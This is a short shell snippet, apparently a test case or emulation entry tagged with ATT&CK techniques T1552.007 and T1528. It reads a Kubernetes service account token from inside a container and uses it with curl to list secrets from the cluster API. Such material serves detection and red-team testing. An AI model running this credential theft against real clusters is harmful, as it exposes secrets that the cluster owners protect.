# title: A container's shell reads the token of its service account and asks the API with it
# technique: T1552.007 T1528
# in: container
# short: yes

token=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
curl -s -H "Authorization: Bearer $token" http://10.96.0.1/api/v1/namespaces/default/secrets; true
